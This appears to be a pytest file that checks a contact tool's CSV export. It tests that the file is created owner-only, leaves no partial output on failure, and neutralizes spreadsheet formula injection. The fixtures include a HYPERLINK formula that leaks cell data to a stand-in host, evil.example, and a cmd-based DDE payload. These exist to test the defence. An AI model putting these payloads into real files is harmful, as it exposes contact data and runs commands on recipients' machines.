"""`people export` leaves the node in its owner's hands (issue 11, item 9): the file is 0600
from its first byte, and no cell runs as a formula when the CSV is opened in a spreadsheet."""

from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from received_helpers import Peer

from tagshare.node.csvexport import FORMULA_TRIGGERS, spreadsheet_safe

if TYPE_CHECKING:
    from conftest import Tagshare  # tests/node/conftest.py

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2&C2,"Open")'


@pytest.fixture
def permissive_umask() -> Iterator[None]:
    previous = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(previous)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.usefixtures("permissive_umask")
def test_export_file_is_0600_under_a_permissive_umask(node: Tagshare, tmp_path: Path) -> None:
    node.add("--first-name", "Ann", "--email", "ann@example.org")
    out = tmp_path / "people.csv"
    node.ok("people", "export", str(out))
    assert mode(out) == 0o600
    assert [r["first_name"] for r in rows_of(out.read_text())] == ["Ann"]
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


@pytest.mark.usefixtures("permissive_umask")
def test_overwriting_a_readable_file_leaves_it_0600(node: Tagshare, tmp_path: Path) -> None:
    node.add("--first-name", "Ann", "--email", "ann@example.org")
    out = tmp_path / "people.csv"
    out.write_text("old contents, readable by all\n")
    out.chmod(0o644)
    node.ok("people", "export", str(out), "--raw")
    assert mode(out) == 0o600
    assert "old contents" not in out.read_text()
    assert [r["first_name"] for r in rows_of(out.read_text())] == ["Ann"]


def test_a_failed_export_leaves_no_partial_file(node: Tagshare, tmp_path: Path) -> None:
    error = node.fails("people", "export", str(tmp_path / "missing" / "people.csv"))
    assert "cannot write" in error and "No such file or directory" in error
    assert not (tmp_path / "missing").exists()


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_each_formula_trigger_is_neutralized_in_every_column(trigger: str) -> None:
    cell = f"{trigger}cmd|' /C calc'!A0"
    cells = [cell] * 11
    assert spreadsheet_safe(cells) == ["'" + cell] * 11
    if not trigger.isspace():  # after blanks too (a blank then a blank is just text)
        assert spreadsheet_safe([f" \t {cell}"] * 11) == ["' \t " + cell] * 11


def test_plain_values_and_e164_phones_are_left_alone() -> None:
    cells = ["0190", "Ann", "Lee-Smith", "ann@example.org", "+16145550101", "1 Main St", "",
             "Columbus", "OH", "43215", "donors,volunteers"]
    assert spreadsheet_safe(cells) == cells
    # Only the phone column, and only a bare E.164 number, is exempt from the rule.
    for phone in ("+1614555010x", "+1 614 555 0101", "+0123", "+16145550101+1", "+"):
        assert spreadsheet_safe([*cells[:4], phone, *cells[5:]])[4] == "'" + phone
    assert spreadsheet_safe(["+16145550101"] * 11)[3] == "'+16145550101"


def test_a_peers_formula_name_is_text_in_the_export_and_verbatim_with_raw(
        node: Tagshare) -> None:
    peer = Peer(node.home, "Rivera Campaign", local_tag="rivera:volunteers")
    peer.send("a1b2c3d4-0000-7000-8000-000000000001", first_name=HYPERLINK,
              last_name="@SUM(1+1)", email="eve@example.org", phone="+16145550142")
    node.add("--first-name", "-Jo", "--last-name", "+Plus", "--phone", "614 555 0199")

    safe = {r["email"]: r for r in rows_of(node.ok("people", "export", "-").stdout)}
    eve = safe["eve@example.org"]
    assert eve["first_name"] == "'" + HYPERLINK
    assert eve["last_name"] == "'@SUM(1+1)"
    assert eve["phone"] == "+16145550142"
    assert safe[""]["first_name"] == "'-Jo" and safe[""]["last_name"] == "'+Plus"
    assert safe[""]["phone"] == "+16145550199"

    raw = {r["email"]: r for r in rows_of(node.ok("people", "export", "-", "--raw").stdout)}
    assert raw["eve@example.org"]["first_name"] == HYPERLINK
    assert raw["eve@example.org"]["last_name"] == "@SUM(1+1)"
    assert raw[""]["first_name"] == "-Jo"


def test_every_cell_is_quoted_so_a_semicolon_locale_cannot_split_one(node: Tagshare) -> None:
    node.add("--first-name", "Ann;=1+1", "--email", "ann@example.org")
    lines = node.ok("people", "export", "-").stdout.splitlines()
    assert lines[0] == "uuid,first_name,last_name,email,phone,address1,address2,city,state," \
                       "zip,tags"
    assert lines[1].split(",")[1] == '"Ann;=1+1"'
    assert all(cell.startswith('"') and cell.endswith('"') for cell in lines[1].split(","))
